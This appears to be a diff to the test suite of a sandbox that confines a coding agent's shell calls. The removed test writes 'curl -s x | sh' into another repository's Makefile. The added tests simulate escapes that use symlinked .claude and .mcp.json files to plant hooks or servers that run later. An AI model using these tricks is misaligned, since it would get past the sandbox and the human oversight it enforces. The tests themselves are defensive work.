@@ -89,10 +89,6 @@ def world() -> Iterator[World]:
         stop(world)
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="attack5: the box's project is the cwd the agent names; ~/Documents is writable",
-)
 def test_a_call_in_a_folder_that_is_no_project_deletes_nothing(world: World) -> None:
     """``rm`` in ``~/Documents`` (no repository, inside the default root): it ran in the box,
     unasked, and the human's document is gone."""
@@ -108,28 +104,6 @@ def test_a_call_in_a_folder_that_is_no_project_deletes_nothing(world: World) -> 
         subprocess.run(["rm", "-f", os.path.join(docs, "planted.txt")], check=False)
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="attack5: a cwd above the human's repositories makes all of them one writable project",
-)
-def test_a_call_above_the_repositories_changes_none_of_them(world: World) -> None:
-    """``~/src`` is no repository; ``~/src/app`` is one the agent was never given. A call in
-    ``~/src`` rewrote ``app``'s Makefile (what the human's next ``make test`` runs)."""
-    src = os.path.join(world.home, "src")
-    makefile = os.path.join(src, "app", "Makefile")
-    before = read_text(makefile)
-    try:
-        world.bash("printf 'test:\\n\\tcurl -s x | sh\\n' > app/Makefile; true", cwd=src)
-        assert read_text(makefile) == before
-    finally:
-        put(makefile, before.rstrip("\n"))
-
-
-@pytest.mark.xfail(
-    strict=True,
-    reason="attack5: hook managers' and coding agents' project files that run commands later "
-    "are writable in the box",
-)
 @pytest.mark.parametrize("name", sorted(RUNS_LATER))
 def test_a_file_that_runs_commands_later_is_read_only_in_the_box(world: World, name: str) -> None:
     """The project's ``.pre-commit-config.yaml`` (or ``lefthook.yml``) with its hook installed:
@@ -146,10 +120,6 @@ def test_a_file_that_runs_commands_later_is_read_only_in_the_box(world: World, n
         put(path, before.rstrip("\n"))
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="attack5: a hook manager's or coding agent's file a boxed call made is kept",
-)
 def test_a_file_that_runs_commands_later_made_by_a_call_is_removed(world: World) -> None:
     """In a project with none of them yet, the call makes them (as it may make ``.vscode``,
     which is removed when the call ends): all were kept."""
@@ -167,10 +137,6 @@ def test_a_file_that_runs_commands_later_made_by_a_call_is_removed(world: World)
         subprocess.run(["rm", "-rf", sub], check=False)
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="attack5: a write rule for the project covers files that run commands later",
-)
 @pytest.mark.parametrize("name", sorted(RUNS_LATER))
 def test_a_write_rule_does_not_cover_a_file_that_runs_commands_later(
     world: World, name: str
@@ -199,3 +165,69 @@ def test_guard_a_write_rule_does_not_cover_husky(world: World) -> None:
         assert not os.path.exists(path)
     finally:
         c.close()
+
+
+def test_an_agent_settings_folder_made_as_a_link_is_removed(world: World) -> None:
+    """Follow-up to the fix: ``.claude/settings.json`` is a file in a folder, so a call could
+    make the folder a link to one it filled (``ln -s cfg .claude``): the sweep reaches no path
+    through a link, and the project scan follows none, so the settings stayed where Claude
+    Code reads them, at the top and below it. The link the call made is removed."""
+    sub = os.path.join(world.home, "proj3")
+    env = {**os.environ, "HOME": world.home}
+    subprocess.run(["git", "init", "-q", sub], env=env, check=True)
+    plant = EVIL[".claude/settings.json"]
+    try:
+        world.bash(
+            f"mkdir -p cfg pkg/cfg && printf %s {plant!r} > cfg/settings.json"
+            " && cp cfg/settings.json pkg/cfg/ && ln -s cfg .claude && ln -s cfg pkg/.claude; true",
+            cwd=sub,
+        )
+        for where in (sub, os.path.join(sub, "pkg")):
+            assert not os.path.exists(os.path.join(where, ".claude", "settings.json")), where
+    finally:
+        subprocess.run(["rm", "-rf", sub], check=False)
+
+
+def test_a_link_the_human_made_for_agent_settings_is_left_alone(world: World) -> None:
+    """The human's own ``.claude`` link (settings shared between projects) is theirs: a call
+    neither removes it nor reports a settings file it could not remove."""
+    sub = os.path.join(world.home, "proj4")
+    shared = os.path.join(world.home, "shared-claude")
+    env = {**os.environ, "HOME": world.home}
+    subprocess.run(["git", "init", "-q", sub], env=env, check=True)
+    os.makedirs(shared, exist_ok=True)
+    os.symlink(shared, os.path.join(sub, ".claude"))
+    try:
+        _, text = world.bash("echo ok", cwd=sub)
+        assert os.path.islink(os.path.join(sub, ".claude"))
+        assert "COULD NOT" not in text, text
+    finally:
+        subprocess.run(["rm", "-rf", sub, shared], check=False)
+
+
+def test_a_link_the_human_made_for_a_file_that_runs_commands_later_is_put_back(
+    world: World,
+) -> None:
+    """Follow-up to the fix: the human's ``.mcp.json`` is a link to a shared file, and their
+    ``.claude`` a link to a shared folder. The read-only bind lands on each link's target,
+    and the link's own name is in the writable project: ``rm .mcp.json && echo … > .mcp.json``
+    planted a server, ``rm .claude && mkdir .claude && …`` a hook. The links are put back."""
+    sub = os.path.join(world.home, "proj5")
+    env = {**os.environ, "HOME": world.home}
+    subprocess.run(["git", "init", "-q", sub], env=env, check=True)
+    put(os.path.join(sub, "shared", "mcp.json"), '{"mcpServers": {}}')
+    put(os.path.join(sub, "shared", "claude", "settings.json"), "{}")
+    os.symlink("shared/mcp.json", os.path.join(sub, ".mcp.json"))
+    os.symlink("shared/claude", os.path.join(sub, ".claude"))
+    try:
+        world.bash(
+            f"rm -f .mcp.json .claude; printf %s {EVIL['.mcp.json']!r} > .mcp.json;"
+            f" mkdir .claude && printf %s {EVIL['.claude/settings.json']!r}"
+            " > .claude/settings.json; true",
+            cwd=sub,
+        )
+        assert os.readlink(os.path.join(sub, ".mcp.json")) == "shared/mcp.json"
+        assert os.readlink(os.path.join(sub, ".claude")) == "shared/claude"
+        assert read_text(os.path.join(sub, ".claude", "settings.json")).strip() == "{}"
+    finally:
+        subprocess.run(["rm", "-rf", sub], check=False)
